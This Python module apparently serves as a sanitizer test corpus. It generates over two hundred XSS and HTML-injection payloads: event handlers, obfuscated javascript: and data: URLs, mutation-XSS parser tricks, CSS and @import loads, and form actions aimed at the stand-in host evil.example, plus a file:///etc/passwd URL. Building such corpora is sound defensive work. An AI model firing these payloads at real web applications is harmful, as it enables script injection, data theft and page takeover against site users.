"""More than two hundred pieces of markup that leave, load, run, or take a page over, as attackers and accidents write them.

Each would show itself: by setting `pwned`, by asking `evil.example` for something, by leaving for it, or by markup that is there.
"""

import itertools

RUN, AWAY = "window.pwned=1", "https://evil.example/"
_HANDLERS = (
    "onclick", "onload", "onerror", "onfocus autofocus tabindex=0 onfocus", "ontoggle", "onanimationstart", "onbegin",
)  # fmt: skip
_ON = (
    "p", "img src=x alt=x", "svg aria-label=x", "details open", "table", "math", "a href=#x", "body", "audio src=x", "input",
)  # fmt: skip
_LOADING = (
    "img src", "img alt=x srcset", "video src", "video poster", "audio src", "source src", "track src", "iframe src",
    "embed src", "object data", "link rel=stylesheet href", "link rel=prefetch href", "link rel=dns-prefetch href",
    "link rel=preconnect href", "link rel=icon href", "link rel=manifest href", "script src", "table background",
    "td background", "body background", "input type=image src", "frame src", "applet code", "bgsound src", "base href",
    "html manifest", "isindex action", "meta http-equiv=refresh content=0;url", "meta http-equiv=Refresh content='0;url",
    "portal src", "fencedframe src", "svg aria-label=x><image href", "svg aria-label=x><image xlink:href",
    "svg aria-label=x><use href", "math><mglyph src", "svg aria-label=x><feImage href", "svg aria-label=x><script href",
    "math><annotation-xml src", "a href=# ping", "img longdesc", "menuitem icon", "picture><source srcset",
    "svg aria-label=x><a href", "math><mi href", "math><maction actiontype=statusline href",
)  # fmt: skip
_SCHEMES = (
    "javascript:{}", "JaVaScRiPt:{}", " javascript:{}", "java\tscript:{}", "java\nscript:{}", "\x01javascript:{}",
    "&#106;avascript:{}", "&#x6A;avascript:{}", "javascript&colon;{}", "java&Tab;script:{}", "vbscript:{}", "livescript:{}",
    "data:text/html,<script>{}</script>", "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{}'/>", "blob:https://evil.example/{}",
    "view-source:{}", "file:///etc/passwd", "filesystem:{}", "ftp://evil.example/", "//evil.example/{}", "\\\\evil.example\\{}",
    "feed:javascript:{}", "data:text/csvx,<script>{}</script>", "data:text/csv+html,<script>{}</script>",
)  # fmt: skip
_STYLES = (
    "background:url({a}x.png)", "background:url('{a}x.png')", "background:u\\72l({a}x.png)", 'background:URL("{a}x")',
    "background-image:image-set('{a}x' 1x)", "background:-webkit-image-set('{a}x' 1x)", "list-style-image:url({a}x)",
    "cursor:url({a}x),auto", "content:url({a}x)", "border-image:url({a}x)", "mask:url({a}x)", "filter:url({a}x#f)",
    "background:/**/url(/**/{a}x)", "background:\\75\\72\\6c({a}x)", "behavior:url({a}x)", "-moz-binding:url({a}x)",
    "width:expression({r})", "position:fixed;inset:0;z-index:99", "position:absolute;top:0",
    "background:cross-fade(url({a}x),red)", "background:element(#report)", "shape-outside:url({a}x)", "clip-path:url({a}x)",
    "--x:url({a}x);background:var(--x)", "background:src({a}x)", "background:image('{a}x')", "background:u\\\nrl({a}x)",
)  # fmt: skip
_SHEETS = (
    "@import '{a}x.css'", "@import url({a}x.css)", '@import/**/"{a}x.css"', "@\\69mport '{a}x.css'",
    "@font-face{{font-family:x;src:url({a}x)}}*{{font-family:x}}", "*{{background:url({a}x)}}",
    "@media all{{*{{background:url({a}x)}}}}", "main{{display:none}}", "body{{visibility:hidden}}",
    "*{{}}</style><script>{r}</script>", "@namespace url({a}x)", "p:hover{{background:url({a}x)}}",
    "p::after{{content:'said by nobody'}}",
)  # fmt: skip
_WHOLE = (
    "<script>{r}</script>", "<SCRIPT>{r}</SCRIPT>", "<script\n>{r}</script\n>", "<scr<script>ipt>{r}</script>",
    "<script/x>{r}</script>", "<svg><script>{r}</script></svg>", "<math><script>{r}</script></math>",
    "<template><script>{r}</script></template>", "<noscript><p title='</noscript><script>{r}</script>'></noscript>",
    "<xmp><p title='</xmp><script>{r}</script>'></xmp>", "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<form action={a}><button>x</button></form>", "<form id=x></form><button form=x formaction={a}>x</button>",
    "<input type=submit formaction={a}>", "<isindex type=image src={a}>", "<select><option>x</select>", "<textarea>",
    "<plaintext>", "<title>x", "<style>", "<xmp>", "<noembed>", "<noframes>", "<listing>", "<table><tr><td>", "<table>x",
    "<div", "<p title='x", "</main>", "</body>", "</html>", "</div></div>", "<b>", "<a href=#x>", "<select>", "<option>",
    "<details>", "<!--", "<!-- x --!>", "<!--[if IE]><script>{r}</script><![endif]-->", "<!-- -- > x -->",
    "<!--> <script>{r}</script> -->", "<![CDATA[ <script>{r}</script> ]]>", "<?xml-stylesheet href={a}?>", "<!ENTITY x '{r}'>",
    "<svg><foreignObject><iframe src={a}></iframe></foreignObject></svg>",
    "<svg><set attributeName=href to=javascript:{r} /></svg>",
    "<svg><animate attributeName=href values=javascript:{r} /><a><text y=9>x</text></a></svg>",
    "<svg><handler>{r}</handler></svg>", "<svg></p><style><a id='</style><img src=x onerror={r}>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror={r}>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror={r} src>'>",
    "<svg><desc><p></desc><style><img title='</style><img src=x onerror={r}>'>",
    "<math><annotation-xml encoding=text/html><script>{r}</script>",
    "<svg><title><style><img title='</style></title><img src=x onerror={r}>'></style></title></svg>",
    "<p id=x tabindex=1 onfocus={r}></p>", "<img src=x:x onerror={r} alt=x>", "<img/src=x/onerror={r}/alt=x>",
    "<img src='x'onerror='{r}'alt=x>", "<image src=x onerror={r}>", "<object data=javascript:{r}>",
    "<embed src=javascript:{r}>", "<keygen autofocus onfocus={r}>", "<marquee onstart={r}>x</marquee>",
    "<isindex prompt=x onfocus={r}>", "<dialog open>x</dialog>", "<frameset onload={r}>", "<body onload={r}>",
    "<html onclick={r}>", "<x-element onclick={r}>x</x-element>", "<slot onslotchange={r}></slot>",
    "<video><source onerror={r}></video>", "<canvas></canvas>",
    "<map name=m><area shape=default href={a}></map><img usemap=#m src=x alt=x>",
    "<meta charset=utf-7>+ADw-script+AD4-{r}+ADw-/script+AD4-", "<meta name=referrer content=unsafe-url>",
    "<base target=_blank href={a}>", "<link rel=import href={a}>", "<object type=text/html data={a}></object>",
    "<param name=src value={a}>", "<me\x00ta http-equiv=refresh>", "\ufeff<script>{r}</script>", "<scr\x00ipt>{r}</script>",
    "%3Cscript%3E{r}%3C/script%3E", "&lt;script&gt;{r}&lt;/script&gt;", "<p>&#60;script&#62;{r}&#60;/script&#62;</p>",
    "\u202e<script>{r}</script>", "javascript:{r}", "' onclick='{r}", '" onload="{r}', "[x](javascript:{r})", "![x]({a}y.png)",
    "[x]: {a}", "<{a}>", "`<script>{r}</script>`", "$\\text{{<script>{r}</script>}}$", "$\\href{{javascript:{r}}}{{x}}$",
    "<a href={a} target=main>x</a>", "<a href={a} target=_blank rel=opener>x</a>",
    "<a href='data:text/csv,<script>{r}</script>' download=x.html>x</a>", "<a href={a}x download=x.csv.exe>x</a>",
    "<svg aria-label=x><text transform='url({a}x)' font-family='url({a}y)'>x</text></svg>", "<img alt=x>",
    "<math><mi mathbackground='url({a}x)'>x</mi></math>", "<math><mi mathbackground='u\\72l({a}x)'>x</mi></math>",
    "<math><semantics><annotation-xml encoding=text/html><img src={a} alt=x></annotation-xml></semantics></math>",
    "<permission type=geolocation>", "<selectedcontent>", "<template shadowrootmode=open><script>{r}</script></template>",
)  # fmt: skip


PAYLOADS = tuple(
    dict.fromkeys(
        (
            *(f"<{tag} {handler}={RUN}>x" for tag, handler in itertools.product(_ON, _HANDLERS)),
            *(f"<{start}={AWAY}x'>".replace("='", "=") for start in _LOADING),
            *(f'<a href="{scheme.format(RUN)}">x</a>' for scheme in _SCHEMES),
            *(f'<img alt="x" src="{scheme.format(RUN)}">' for scheme in _SCHEMES),
            *(f'<p style="{style.format(a=AWAY, r=RUN)}">x</p>'.replace('"x"', "'x'") for style in _STYLES),
            *(f"<style>{sheet.format(a=AWAY, r=RUN)}</style>" for sheet in _SHEETS),
            *(one.format(a=AWAY, r=RUN) for one in _WHOLE),
        )
    )
)
